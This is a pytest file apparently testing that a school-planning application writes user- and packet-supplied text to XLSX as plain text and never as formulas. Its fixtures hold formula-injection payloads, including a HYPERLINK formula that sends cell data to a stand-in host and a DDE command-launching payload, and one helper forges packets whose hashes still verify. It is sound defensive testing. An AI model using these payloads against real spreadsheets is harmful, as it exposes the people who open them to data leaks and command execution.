"""No formula injection: text a user typed, or a packet carried, is written to XLSX as text.

Payloads go into the school's name, the plan (title, measures, notes) and a crafted packet whose
manifest hashes are recomputed so it verifies; every workbook the program writes from them
(plan-xlsx, report x.xlsx, analysis-report x.xlsx, the packet's plan.xlsx and analysis.xlsx, the
district summary) is opened as a ZIP: no sheet holds a single ``<f>`` element, and each payload is
there as a string exactly as typed. LibreOffice, converting a sheet to CSV, shows it as typed too.
"""
from __future__ import annotations

import hashlib
import json
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import openpyxl
import pytest

from app.cli import main
from app.core import packet as P
from app.core import store, xlsx_safe

HYPERLINK = '=HYPERLINK("http://x?q="&A1,"x")'
DDE = "=cmd|' /C calc'!A0"
PAYLOADS = [HYPERLINK, DDE, "+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=2+2", "#DIV/0!"]


def _sheet_xml(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as zf:
        return {n: zf.read(n).decode("utf-8") for n in zf.namelist()
                if n.startswith("xl/worksheets/") and n.endswith(".xml") or n == "xl/sharedStrings.xml"}


def _strings(path: Path) -> set[str]:
    """Every text value of every sheet, as openpyxl reads it back, with its cell type."""
    wb = openpyxl.load_workbook(path)
    out = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is not None:
                    assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        out.add(cell.value)
    return out


def assert_no_formula(path: Path, expected: list[str]) -> None:
    xml = _sheet_xml(path)
    assert any(n.startswith("xl/worksheets/") for n in xml)
    for name, text in xml.items():
        assert "<f>" not in text and "<f " not in text, f"{path.name}: formula in {name}"
    strings = _strings(path)
    for payload in expected:
        assert any(payload in s for s in strings), f"{path.name}: «{payload!r}» not written as text"


@pytest.fixture(scope="module")
def hostile_school(demo_template, tmp_path_factory):
    """The demo school whose name, plan and notes are formula payloads."""
    root = tmp_path_factory.mktemp("injection")
    path = root / "school.db"
    shutil.copyfile(demo_template, path)
    db = store.open_db(path)
    with db.atomic():
        db.execute("UPDATE school SET full_name = ?, short_name = ?, director = ?",
                   [HYPERLINK, HYPERLINK, "+1"])
        plan_id = store.current_plan_id(db)
        db.execute("UPDATE plan SET title = ? WHERE id = ?", [DDE, plan_id])
        items = [r[0] for r in db.execute(
            "SELECT i.id FROM plan_item i JOIN plan_section s ON s.id = i.section_id "
            "WHERE s.plan_id = ? ORDER BY i.id", [plan_id])]
        for item, payload in zip(items, PAYLOADS):
            db.execute("UPDATE plan_item SET measure = ?, responsible = ?, expected_result = ? "
                       "WHERE id = ?", [payload, payload, payload, item])
        db.execute("UPDATE execution SET note = ? WHERE id = (SELECT min(id) FROM execution)", [DDE])
        db.execute("UPDATE evidence SET file_name = ? WHERE id = (SELECT min(id) FROM evidence)",
                   ["=1+2.pdf"])
    db.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    db.close()
    return path


def _cli(*args: str) -> None:
    assert main(list(args)) == 0


def test_plan_xlsx_keeps_every_payload_as_text(hostile_school, tmp_path):
    out = tmp_path / "plan.xlsx"
    _cli("--db", str(hostile_school), "plan-xlsx", str(out))
    assert_no_formula(out, PAYLOADS + [DDE])


def test_execution_report_xlsx_keeps_every_payload_as_text(hostile_school, tmp_path):
    out = tmp_path / "report.xlsx"
    _cli("--db", str(hostile_school), "report", str(out))
    assert_no_formula(out, [DDE, "=1+2.pdf"])


def test_analysis_report_xlsx_keeps_the_school_name_as_text(hostile_school, tmp_path):
    out = tmp_path / "analysis.xlsx"
    _cli("--db", str(hostile_school), "analysis-report", str(out))
    assert_no_formula(out, [HYPERLINK])


def test_schedule_xlsx_keeps_the_school_name_as_text(hostile_school, tmp_path):
    out = tmp_path / "schedule.xlsx"
    _cli("--db", str(hostile_school), "schedule-xlsx", str(out))
    assert_no_formula(out, [HYPERLINK])


@pytest.fixture(scope="module")
def hostile_packet(hostile_school, tmp_path_factory):
    db = store.open_db(hostile_school)
    try:
        return P.write_packet(db, tmp_path_factory.mktemp("packet-out"))
    finally:
        db.close()


def test_packet_workbooks_keep_every_payload_as_text(hostile_packet, tmp_path):
    with zipfile.ZipFile(hostile_packet) as zf:
        for name in ("plan.xlsx", "analysis.xlsx"):
            (tmp_path / name).write_bytes(zf.read(name))
    assert_no_formula(tmp_path / "plan.xlsx", PAYLOADS)
    assert_no_formula(tmp_path / "analysis.xlsx", [HYPERLINK])


def craft(good: Path, out: Path, edit) -> Path:
    """A packet changed by `edit(manifest, data)` whose manifest hashes are recomputed, so it
    verifies: what a hostile school could send."""
    with zipfile.ZipFile(good) as zf:
        members = {n: zf.read(n) for n in zf.namelist()}
    manifest = json.loads(members["manifest.json"])
    data = json.loads(members["data.json"])
    edit(manifest, data)
    members["data.json"] = json.dumps(data, ensure_ascii=False).encode("utf-8")
    for entry in manifest["files"]:
        raw = members[entry["path"]]
        entry["size"], entry["sha256"] = len(raw), hashlib.sha256(raw).hexdigest()
    members["manifest.json"] = json.dumps(manifest, ensure_ascii=False).encode("utf-8")
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, raw in members.items():
            zf.writestr(name, raw)
    return out


def _poison(manifest: dict, data: dict) -> None:
    manifest["school"]["name"] = data["school"]["name"] = HYPERLINK
    data["school"]["short_name"] = DDE
    manifest["period"]["label"] = data["period"]["label"] = "@SUM(A1)"
    data["school"]["municipality"] = "-2+3"
    flags = data["analysis"]["flags"]
    assert flags, "the demo school has flags"
    flags[0].update(reason=HYPERLINK, subject="+1", title=DDE)


def test_district_summary_writes_what_a_packet_says_as_text(hostile_packet, tmp_path):
    crafted = craft(hostile_packet, tmp_path / "objektiv_evil.zip", _poison)
    assert P.verify_packet(crafted).ok, P.verify_packet(crafted).problems
    out = tmp_path / "summary.xlsx"
    _cli("summary", str(crafted), "--out", str(out))
    assert_no_formula(out, [DDE, HYPERLINK, "@SUM(A1)", "+1"])


def test_quote_prefix_marks_risky_text_and_only_our_formulas_survive(tmp_path):
    wb = openpyxl.Workbook()
    ws = wb.active
    for row, payload in enumerate(PAYLOADS + ["обычный текст", "-"], 1):
        xlsx_safe.put(ws, row, 1, payload)
    xlsx_safe.put(ws, 20, 1, 5)
    xlsx_safe.put_formula(ws, 21, 1, "=A20*2")
    ws["B1"] = "=A20+1"                              # bypassing put: defused when saved
    xlsx_safe.set_value(ws["B2"], "ok\x00\x07bell")     # bytes XML cannot carry are dropped
    xlsx_safe.save(wb, tmp_path / "t.xlsx")
    sheet = _sheet_xml(tmp_path / "t.xlsx")["xl/worksheets/sheet1.xml"]
    assert re.findall(r"<f>(.*?)</f>", sheet) == ["A20*2"]
    back = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    assert [back.cell(r, 1).value for r in range(1, len(PAYLOADS) + 1)] == PAYLOADS
    assert back["B1"].value == "=A20+1" and back["B1"].data_type == "s"
    assert back["B2"].value == "okbell"
    assert all(back.cell(r, 1).quotePrefix for r in range(1, len(PAYLOADS)))   # «#DIV/0!» needs none
    assert not back.cell(len(PAYLOADS) + 1, 1).quotePrefix


def test_every_workbook_writer_goes_through_the_one_writer():
    """No module of the program saves a workbook or assigns a cell past app/core/xlsx_safe.py."""
    root = Path(__file__).resolve().parents[2] / "app"
    offenders = []
    for path in root.rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        if path.name == "xlsx_safe.py" or "Workbook(" not in text and "ws.cell(" not in text:
            continue
        for pattern in (r"\bwb\.save\(", r"\.cell\([^)]*value\s*=", r"\bws\[[^\]]+\]\s*=(?!=)"):
            if re.search(pattern, text):
                offenders.append(f"{path.relative_to(root.parent)}: {pattern}")
    assert offenders == []


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_shows_the_payloads_as_typed(hostile_school, tmp_path):
    out = tmp_path / "plan.xlsx"
    _cli("--db", str(hostile_school), "plan-xlsx", str(out))
    profile = tmp_path / "lo-profile"
    subprocess.run(["soffice", f"-env:UserInstallation={profile.as_uri()}", "--headless",
                    "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir",
                    str(tmp_path), str(out)], check=True, capture_output=True, timeout=120)
    csv_text = (tmp_path / "plan.csv").read_text(encoding="utf-8")
    for payload in (HYPERLINK, DDE, "+1", "-2+3", "@SUM(A1)"):
        quoted = '"' + payload.replace('"', '""') + '"'
        assert payload in csv_text or quoted in csv_text, payload
    assert "http://x?q=" in csv_text and "calc" in csv_text      # not evaluated to a value
